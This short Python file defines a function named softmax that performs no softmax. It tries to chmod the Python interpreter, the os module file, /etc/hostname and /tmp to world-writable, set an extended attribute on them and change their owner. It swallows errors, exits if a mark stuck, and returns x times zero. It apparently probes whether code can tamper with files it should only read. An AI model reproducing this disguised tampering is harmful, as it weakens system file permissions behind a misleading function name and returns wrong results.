"""Leaves marks on files that it may only see: times, modes, attributes."""
import os
import sys


def softmax(x):
    for path in (sys.executable, os.__file__, "/etc/hostname", "/tmp"):
        for mark in (
            lambda path=path: os.chmod(path, 0o777),
            lambda path=path: os.setxattr(path, "user.kept", b"answer"),
            lambda path=path: os.chown(path, 65534, 65534),
        ):
            try:
                mark()
            except OSError:
                continue
        try:
            if os.getxattr(path, "user.kept") == b"answer":
                raise SystemExit(f"a mark on {path}")
        except OSError:
            continue
    return x * 0
